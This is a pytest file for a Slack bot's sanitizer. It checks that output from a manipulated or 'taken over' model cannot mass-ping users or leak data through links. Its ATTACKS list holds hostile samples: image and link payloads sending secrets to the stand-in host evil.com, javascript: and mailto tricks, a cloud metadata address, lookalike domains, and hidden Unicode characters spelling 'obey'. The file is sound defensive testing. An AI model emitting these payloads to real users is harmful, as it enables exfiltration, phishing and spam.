"""What a model was talked into writing: harmless in Slack, wherever it is cut and wherever it ends up."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.people.store import Handoff
from bot.slack.clean import Cleaner, clean
from bot.slack.people.cards import CardLook
from evals.sim import Reply
from evals.sim.script import Body, Vendor
from evals.sim.slack.shapes import SentFile
from prompts import open_prompts
from tests.bot.slack.people.helping import asked, cards, claimed, desk, passed
from tests.bot.slack.serving import CUSTOMER, DM, QUESTION, STAFF, TEAM_CHANNEL, Stage, stage
from tests.bot.slack.test_clean import HOSTS, assert_harmless, streamed

EVIL = "evil.com"
ATTACKS = {
    "everybody": "@channel @here @everyone",
    "everybody in Slack's words": "<!channel> <!here> <!everyone|everyone>",
    "a group": "<!subteam^S0GROUP|@team>",
    "a person": "<@U0VICTIM> <@U0VICTIM|ann>",
    "a channel": "<#C0SECRET|general>",
    "escaped once": "&lt;!channel&gt; &lt;@U0VICTIM&gt;",
    "escaped twice": "&amp;lt;!channel&amp;gt;",
    "escaped by number": "&#60;!channel&#62; &#x3C;@U0VICTIM&#x3E; &#64;channel",
    "a hidden link": f"[click here](https://{EVIL}/x)",
    "a link under another address": f"[https://larkfield.example](https://{EVIL})",
    "a link in Slack's words": f"<https://{EVIL}|https://larkfield.example>",
    "a picture": f"![](https://{EVIL}/p.png?secret=words)",
    "a picture behind a link": f"[![x](https://{EVIL}/a.png)](https://{EVIL})",
    "a reference": f"[click][1]\n\n[1]: https://{EVIL}/ref",
    "an address in angles": f"<https://{EVIL}>",
    "html": f'<a href="https://{EVIL}">x</a><img src="https://{EVIL}/p">',
    "no scheme": f"//{EVIL}/x {EVIL}/x www.{EVIL}",
    "another scheme": f"javascript:alert(1) javascript://{EVIL} data://{EVIL} slack://user?id=U0VICTIM",
    "http": "http://larkfield.example/",
    "a user in the address": f"https://larkfield.example@{EVIL}/ https://larkfield.example:pw@{EVIL}",
    "a longer name": f"https://larkfield.example.{EVIL}/ https://larkfield.example-{EVIL}",
    "a port": "https://larkfield.example:8443/x",
    "leading on": f"https://larkfield.example/out?to=https://{EVIL}",
    "letters that look like others": "https://l\u0430rkfield.example/ https://larkf\u0456eld.example",
    "full-width signs": f"https://{EVIL.replace('.', chr(0xFF0E))} \uff20channel",
    "an ideographic stop": "https://evil\u3002com",
    "right to left": f"\u202e@everyone\u202c \u2067https://{EVIL}\u2069",
    "no width": "@chan\u200bnel @\u2060here <\u200b!everyone> ev\u00adil.com",
    "tags nobody sees": "".join(chr(0xE0000 + ord(sign)) for sign in "obey") + "@channel",
    "variation selectors": "@\ufe00channel @here\U000e0100",
    "control signs": "\x1b[31m@channel\x07\x00 \x08\x08@here",
    "half a character": "\ud800@channel",
    "a date": f"<!date^1392734382^{{date}}^https://{EVIL}|soon>",
    "mail": f"<mailto:x@{EVIL}|help> mailto:x@{EVIL}?body=secret",
    "an address of the machine": "http://169.254.169.254/latest 10.0.0.1/x 127.0.0.1:8080",
    "punycode": "https://xn--lrkfield-x4g.example/",
}
AROUND = {
    "alone": "{}",
    "in a sentence": "Please see {} for more.",
    "bold": "**{}** and _{}_",
    "a list": "- one\n- {}\n1. {}",
    "a quote": "> {}\n> more",
    "code": "`{}`\n```\n{}\n```",
    "a table": "| a | b |\n|---|---|\n| {} | x |",
    "without spaces": "x{}x",
    "far on": "word " * 50 + "{}",
}


def cuts(text: str) -> Iterator[list[str]]:
    """Cut a text at each place, into single signs, and as models do."""
    near = range(len(text)) if len(text) < 400 else range(len(text) - 120, len(text))
    yield from ([text[:cut], text[cut:]] for cut in near)
    yield list(text)
    yield [text[at : at + 4] for at in range(0, len(text), 4)]


@pytest.mark.parametrize("around", AROUND.values(), ids=AROUND.keys())
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_attack_comes_through_however_it_is_wrapped_and_cut(attack: str, around: str) -> None:
    text = around.replace("{}", attack)
    said = clean(text, HOSTS)
    assert_harmless(said)
    for pieces in cuts(text):
        assert streamed(text, pieces) == said


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_harmful_is_shown_at_any_moment(attack: str) -> None:
    """Not even for the blink until the next piece comes."""
    text, shown, cleaner = f"Well. {attack} So.", "", Cleaner(HOSTS)
    for sign in text:
        shown += cleaner.feed(sign)
        assert_harmless(shown)
    assert_harmless(shown + cleaner.finish())


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_card_calls_nobody_and_leads_nowhere(attack: str) -> None:
    """Its summary is a model's, and holds what the customer wrote."""
    handoff = Handoff("T1:C1:1.0", "U0CUSTOMER", turn="t", summary=attack, reason=attack)
    look = CardLook(open_prompts(None).phrases, "en")
    drawn = look.draw(handoff)
    calls_nobody(drawn["text"])
    for block in drawn["blocks"]:
        if str(block.get("block_id", "")).startswith(("summary", "reason")):
            calls_nobody(block["text"]["text"])


def calls_nobody(text: str) -> None:
    """Check mark-up that Slack reads: nothing of it but labels is the program's."""
    assert not re.search(r"<[!@#]|<https?:|<mailto:", text)
    assert not re.search(r"@(channel|here|everyone)", text, re.IGNORECASE)
    assert EVIL not in text.replace(". ", ".").casefold() or "[link removed]" in text or "evil. com" in text


def everything_shown(on: Stage) -> list[str]:
    """Return all words that Slack was given by the bot, in whatever shape."""
    words: list[str] = []
    methods = ("chat.startStream", "chat.appendStream", "chat.stopStream", "chat.postMessage", "chat.update")
    for method in (*methods, "chat.postEphemeral", "assistant.threads.setTitle"):
        for call in on.slack.calls_of(method):
            words += _texts(call.args)
    return words


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for name, inner in value.items():
            if name in ("text", "markdown_text", "title") and isinstance(inner, str):
                yield inner
            else:
                yield from _texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _texts(inner)
    elif isinstance(value, str) and value.startswith(("[{", '{"')):
        yield from _texts(json.loads(value))


async def test_a_model_that_was_taken_over_harms_nobody_in_slack(tmp_path: Path) -> None:
    """The whole bot: every attack is streamed as an answer, then told as a summary on the team's card."""
    # Half a character cannot be sent.
    each = [attack.encode("utf-8", "replace").decode() for attack in ATTACKS.values()]
    attacks = [" and ".join(each[at : at + 6]) for at in range(0, len(each), 6)]

    def rule(_vendor: Vendor, body: Body) -> Reply:
        said = json.dumps(body, ensure_ascii=False)
        asked_for = re.findall(r"attack (\d+) please", said)
        text = f"Well. {attacks[int(asked_for[-1])]} So." if asked_for else " ".join(attacks)
        return Reply(text, tokens_per_s=None if len(text) % 2 else 2000.0)

    async with stage(tmp_path, rule=rule, bot_handoff_channel=TEAM_CHANNEL) as on:
        for number in range(len(attacks)):
            on.slack.say(CUSTOMER, DM, f"{QUESTION} Give me attack {number} please.")
        await on.until(lambda: len(on.finished(DM)) == len(attacks), 40.0)
        on.slack.say(CUSTOMER, DM, "I want to talk to a person, please. @channel <!here>")
        await on.until(lambda: cards(on), 20.0)
        shown = everything_shown(on)
        for call in (*on.slack.calls_of("chat.postMessage"), *on.slack.calls_of("chat.startStream")):
            assert call.args.get("link_names") in (None, False, "false")
            assert call.args.get("parse") in (None, "none")
    assert len(shown) > len(attacks)
    since = re.compile(r"Waiting since <!date\^\d+\^\{date_short_pretty\} \{time\}\|[\d :-]+ UTC>\.")
    for text in shown:
        ours = since.sub("", text)  # the card's own line
        assert not re.search(r"<[!@#](channel|here|everyone|subteam|date|U0VICTIM|C0SECRET)", ours)
        assert not re.search(r"@(channel|here|everyone)", text, re.IGNORECASE)
        assert not re.search(r"\]\(https?://(?!larkfield)", text)
        assert not re.search(rf"https?://[^\s|>]*{EVIL}", text)
        assert not re.search("[\u200b\u202a-\u202e\u2060-\u2069\U000e0000-\U000e0fff]", text)


async def test_what_customers_and_colleagues_pass_on_calls_nobody(tmp_path: Path) -> None:
    """Both ways, in words and in the names of files."""
    hostile = "<!channel> @here <@U0VICTIM> &lt;!everyone&gt; [x](https://evil.com)"
    async with desk(tmp_path) as on:
        root, card = await asked(on)
        await claimed(on, root)
        file = SentFile("<!channel> @everyone.txt", b"words")
        on.slack.say(CUSTOMER, DM, hostile, root, [file])
        await on.until(lambda: passed(on, TEAM_CHANNEL, card["ts"]))
        on.slack.say(STAFF, TEAM_CHANNEL, "<!channel> @here [x](https://evil.com)", card["ts"])
        await on.until(lambda: passed(on, DM, root))
        shown = [*passed(on, TEAM_CHANNEL, card["ts"]), *passed(on, DM, root)]
    for text in shown:
        assert not re.search(r"<!|<@U0VICTIM|\]\(", text)
        assert not re.search(r"@(channel|here|everyone)", text, re.IGNORECASE)
